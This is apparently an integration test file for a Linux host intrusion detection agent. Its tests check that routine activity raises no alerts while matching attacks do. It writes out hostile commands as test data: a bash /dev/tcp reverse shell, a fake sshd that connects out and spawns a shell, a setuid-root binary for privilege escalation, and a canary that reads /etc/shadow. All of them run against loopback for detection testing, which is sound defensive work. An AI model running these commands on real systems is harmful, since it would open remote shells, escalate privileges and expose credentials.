//! Routine host work that looks like an attack, through the real probes and the real agent:
//! each routine stays quiet and the attack beside it, done with the same tools, fires.
//!
//! - a `/dev/tcp` health check on descriptor 3, beside `bash -i >& /dev/tcp/… 0>&1`;
//! - a real OpenSSH login running `sh -c` (sshd's own resolver connects to `0.0.0.0:22`),
//!   beside a program named `sshd` outside the system's directories that connects out and
//!   starts a shell;
//! - `setpriv --reuid=65534` dropping root, beside a setuid-root program run by that uid.
//!
//! Each absence is checked after a canary: a program whose read of `/etc/shadow` must raise a
//! `credential_access` alert, run after the routine. Once its alert is in the file, the
//! pipeline had handled the routine's events. Needs root, bash, setpriv and OpenSSH (`cargo
//! xtask setup` installs them); without them a test fails with NOT RUN.

use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use heir_testkit::{Reap, exit_within, poll, unique};
use serde_json::Value;

const HEIR: &str = env!("CARGO_BIN_EXE_heir");
const ALERT_WITHIN: Duration = Duration::from_secs(20);

fn require(tools: &[&str]) {
    // SAFETY: geteuid has no preconditions.
    assert!(
        unsafe { libc::geteuid() } == 0,
        "NOT RUN: the agent's probes need root (CI runs the tests as root)"
    );
    for t in tools {
        assert!(
            Path::new(t).exists(),
            "NOT RUN: {t} is not installed (run `cargo xtask setup`)"
        );
    }
}

/// A running `heir agent` at its defaults, writing alert lines to a file.
struct Agent {
    _proc: Reap,
    alerts: PathBuf,
    dir: tempfile::TempDir,
}

impl Agent {
    fn start() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let alerts = dir.path().join("alerts.jsonl");
        let proc = heir_testkit::agent(
            Path::new(HEIR),
            &dir.path().join("data"),
            &alerts,
            dir.path(),
        );
        Agent {
            _proc: proc,
            alerts,
            dir,
        }
    }

    fn alerts(&self) -> Vec<Value> {
        heir_testkit::alert_lines(&self.alerts)
    }

    /// Waits for an alert matching `pred`.
    #[track_caller]
    fn expect(&self, what: &str, pred: impl Fn(&Value) -> bool) -> Value {
        poll(what, ALERT_WITHIN, || self.alerts().into_iter().find(&pred))
    }

    /// Runs the canary and waits for its alert: everything the agent saw before is handled.
    #[track_caller]
    fn settle(&self) {
        heir_testkit::shadow_canary(self.dir.path(), &self.alerts);
    }
}

fn mentions(a: &Value, marker: &str) -> bool {
    a.to_string().contains(marker)
}

/// Runs `cmd` to completion within a bound.
#[track_caller]
fn run(cmd: &mut Command, what: &str) -> u32 {
    let mut child = Reap(
        cmd.stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    let pid = child.0.id();
    exit_within(&mut child.0, Duration::from_secs(30), what);
    pid
}

/// Accepts connections on `listener` and closes each at once, until the test ends.
fn accept_and_close(listener: TcpListener) {
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            drop(conn);
        }
    });
}

#[test]
fn a_dev_tcp_health_check_on_fd_3_is_not_a_reverse_shell() {
    require(&["/usr/bin/bash"]);
    let agent = Agent::start();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    accept_and_close(listener);

    let marker = unique();
    let check = run(
        Command::new("bash").arg("-c").arg(format!(
            "exec 3<>/dev/tcp/127.0.0.1/{port}; echo {marker} >&3; exec 3>&-"
        )),
        "the health check",
    );
    agent.settle();
    let fp: Vec<Value> = agent
        .alerts()
        .into_iter()
        .filter(|a| a["category"] == "reverse_shell" && (a["pid"] == check || mentions(a, &marker)))
        .collect();
    assert!(fp.is_empty(), "a health check raised: {fp:#?}");

    // The attack with the same tool: bash's standard streams on the socket.
    let marker = unique();
    let shell = run(
        Command::new("bash").arg("-c").arg(format!(
            "bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1; : {marker}"
        )),
        "the reverse shell",
    );
    let a = agent.expect("the reverse shell's alert", |a| {
        a["category"] == "reverse_shell" && (a["pid"] == shell || mentions(a, &marker))
    });
    assert_eq!(a["attack"], "T1059.004", "{a}");
}

/// An OpenSSH server on loopback that takes one key, as root, for the test's lifetime.
struct Sshd {
    _proc: Reap,
    port: u16,
    key: PathBuf,
    _dir: tempfile::TempDir,
}

impl Sshd {
    fn start() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let d = dir.path();
        for k in ["host", "client"] {
            let ok = Command::new("ssh-keygen")
                .args(["-q", "-t", "ed25519", "-N", "", "-f"])
                .arg(d.join(k))
                .status()
                .unwrap();
            assert!(ok.success(), "ssh-keygen");
        }
        std::fs::copy(d.join("client.pub"), d.join("authorized_keys")).unwrap();
        std::fs::create_dir_all("/run/sshd").unwrap();
        let port = TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let config = d.join("sshd_config");
        std::fs::write(
            &config,
            format!(
                "ListenAddress 127.0.0.1:{port}\nHostKey {}\nAuthorizedKeysFile {}\n\
                 PermitRootLogin prohibit-password\nStrictModes no\nUsePAM no\nPidFile none\n\
                 PasswordAuthentication no\nKbdInteractiveAuthentication no\n",
                d.join("host").display(),
                d.join("authorized_keys").display()
            ),
        )
        .unwrap();
        let mut proc = Reap(
            Command::new("/usr/sbin/sshd")
                .args(["-D", "-e", "-f"])
                .arg(&config)
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
                .unwrap(),
        );
        poll("sshd to listen", Duration::from_secs(10), || {
            if let Some(s) = proc.0.try_wait().unwrap() {
                panic!("sshd exited: {s}");
            }
            std::net::TcpStream::connect(("127.0.0.1", port)).ok()
        });
        Sshd {
            _proc: proc,
            port,
            key: d.join("client"),
            _dir: dir,
        }
    }

    /// `ssh root@127.0.0.1 command`, which must succeed.
    fn run(&self, command: &str) {
        let out = Command::new("ssh")
            .arg("-i")
            .arg(&self.key)
            .args(["-p", &self.port.to_string()])
            .args([
                "-o",
                "BatchMode=yes",
                "-o",
                "StrictHostKeyChecking=no",
                "-o",
                "UserKnownHostsFile=/dev/null",
                "-o",
                "ConnectTimeout=10",
                "root@127.0.0.1",
                command,
            ])
            .stdin(Stdio::null())
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "ssh {command}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
}

#[test]
fn a_shell_that_sshd_starts_is_not_a_reverse_shell_but_a_fake_sshd_is() {
    require(&["/usr/sbin/sshd", "/usr/bin/ssh", "/usr/bin/ssh-keygen"]);
    let agent = Agent::start();
    let sshd = Sshd::start();

    let marker = unique();
    sshd.run(&format!("sh -c 'echo {marker}; uname -r'"));
    agent.settle();
    let fp: Vec<Value> = agent
        .alerts()
        .into_iter()
        .filter(|a| a["category"] == "reverse_shell" && mentions(a, &marker))
        .collect();
    assert!(fp.is_empty(), "an ssh session raised: {fp:#?}");

    // A program named sshd that is not the system's connects out and starts a shell.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    accept_and_close(listener);
    let dir = tempfile::tempdir().unwrap();
    let fake = dir.path().join("sshd");
    heir_testkit::copy_executable("/usr/bin/bash", &fake);
    let marker = unique();
    run(
        Command::new(&fake).arg("-c").arg(format!(
            "exec 3<>/dev/tcp/127.0.0.1/{port}; sh -c 'echo {marker}'"
        )),
        "the fake sshd",
    );
    agent.expect("the fake sshd's reverse shell alert", |a| {
        a["category"] == "reverse_shell" && mentions(a, &marker)
    });
}

#[test]
fn dropping_root_with_setpriv_is_not_privilege_escalation_but_a_setuid_root_program_is() {
    require(&["/usr/bin/setpriv", "/usr/bin/id"]);
    let agent = Agent::start();

    let drop = run(
        Command::new("setpriv").args([
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            "--inh-caps=-all",
            "/usr/bin/true",
        ]),
        "setpriv dropping to nobody",
    );
    agent.settle();
    let fp: Vec<Value> = agent
        .alerts()
        .into_iter()
        .filter(|a| a["category"] == "privilege_escalation" && a["pid"] == drop)
        .collect();
    assert!(fp.is_empty(), "dropping root raised: {fp:#?}");

    // nobody running a setuid-root copy of id gains euid 0.
    let dir = tempfile::tempdir().unwrap();
    let name = format!("suid{}", unique());
    let suid = dir.path().join(&name);
    heir_testkit::copy_executable("/usr/bin/id", &suid);
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::set_permissions(&suid, std::fs::Permissions::from_mode(0o4755)).unwrap();
    let out = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
        .arg(&suid)
        .arg("-u")
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        "0",
        "the setuid copy runs with euid 0 (is {} mounted nosuid?)",
        dir.path().display()
    );
    let comm: String = name.chars().take(15).collect();
    let a = agent.expect("the setuid program's privilege_escalation alert", |a| {
        a["category"] == "privilege_escalation" && a["comm"] == comm.as_str()
    });
    assert!(mentions(&a, "65534"), "{a}");
}
